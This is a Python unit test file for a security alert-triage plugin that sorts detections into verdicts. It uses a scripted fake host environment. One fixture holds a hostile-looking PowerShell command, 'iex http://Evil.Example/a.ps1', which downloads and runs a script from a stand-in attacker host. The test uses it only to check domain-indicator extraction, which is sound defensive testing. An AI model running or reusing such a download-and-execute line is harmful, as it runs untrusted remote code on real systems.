"""Unit tests of the verdict logic over a scripted host (no wasm): python3 -m unittest"""

import json
import os
import sys
import unittest
from pathlib import Path

sys.path.insert(0, os.environ.get("AERIE_PYTHON_KIT", str(Path(__file__).parents[3] / "kits/python")))

from aerie_plugin import InvalidArguments, NotFound  # noqa: E402
from aerie_plugin.testing import FakeEnv  # noqa: E402

import app  # noqa: E402

CID, AID = "c" * 32, "a" * 32
ALERT = f"{CID}:ind:{AID}:1-2-3"
SHA = "b" * 64


def alert(composite, **kw):
    return {"composite_id": composite, "agent_id": AID, "name": "SensorMLDetection",
            "severity": 40, "status": "new", "sha256": SHA, "cmdline": "", **kw}


def tenant(this, others=(), iocs=(), ran_on=(AID,)):
    return (FakeEnv()
            .answer("PostEntitiesAlertsV2", lambda r: _entities(r, [this, *others]))
            .reply("GetDeviceDetailsV2", {"resources": [{"device_id": AID, "hostname": "H1"}]})
            .reply("GetQueriesAlertsV2", {"resources": [a["composite_id"] for a in [this, *others]],
                                          "meta": {"pagination": {"total": 1 + len(others)}}})
            .reply("indicator_combined_v1", {"resources": list(iocs)})
            .reply("indicator_get_devices_ran_on_v1", {"resources": list(ran_on),
                                                       "meta": {"pagination": {"total": len(ran_on)}}}))


def _entities(request, alerts):
    from aerie_plugin import Response
    wanted = json.loads(request.body)["composite_ids"]
    found = [a for a in alerts if a["composite_id"] in wanted]
    return Response(200, [], json.dumps({"resources": found}).encode())


def run(env, **args):
    return app.plugin.call(env, "verdict_alert", json.dumps({"alert_id": ALERT, **args})).structured


class VerdictTest(unittest.TestCase):
    def test_a_prevent_ioc_seen_elsewhere_is_a_likely_true_positive(self):
        ioc = {"id": "i1", "type": "sha256", "value": SHA, "action": "prevent", "severity": "high"}
        env = tenant(alert(ALERT, severity=80), iocs=[ioc], ran_on=[AID, "d" * 32])
        v = run(env)
        self.assertEqual(v["verdict"], "likely_true_positive", v)
        self.assertEqual(v["evidence"]["iocs"], ["i1"])
        self.assertEqual(v["evidence"]["indicators"][0]["other_hosts"], 1)
        filt = env.query(2)["filter"][0]
        self.assertEqual(filt, f"agent_id:'{AID}'+created_timestamp:>='now-7d'")

    def test_a_detection_closed_as_false_positive_before_is_likely_benign(self):
        old = alert(f"{CID}:ind:{AID}:9-9-9", status="closed", tags=["false_positive"])
        v = run(tenant(alert(ALERT), others=[old]))
        self.assertEqual(v["verdict"], "likely_benign", v)
        self.assertEqual(v["evidence"]["related_alerts"], [old["composite_id"]])

    def test_medium_signal_needs_review(self):
        v = run(tenant(alert(ALERT, severity=75, sha256="")))
        self.assertEqual((v["verdict"], v["evidence"]["indicators"]), ("needs_review", []))

    def test_domains_and_ips_are_indicators(self):
        a = alert(ALERT, cmdline="iex http://Evil.Example/a.ps1",
                  network_accesses=[{"remote_address": "203.0.113.66"}])
        self.assertEqual(app.indicators(a), [("sha256", SHA), ("domain", "evil.example"),
                                             ("ipv4", "203.0.113.66")])

    def test_bad_and_unknown_ids(self):
        with self.assertRaises(InvalidArguments):
            run(FakeEnv(), alert_id="nope")
        with self.assertRaises(NotFound):
            run(tenant(alert(f"{CID}:ind:{AID}:0-0-0")))


if __name__ == "__main__":
    unittest.main()
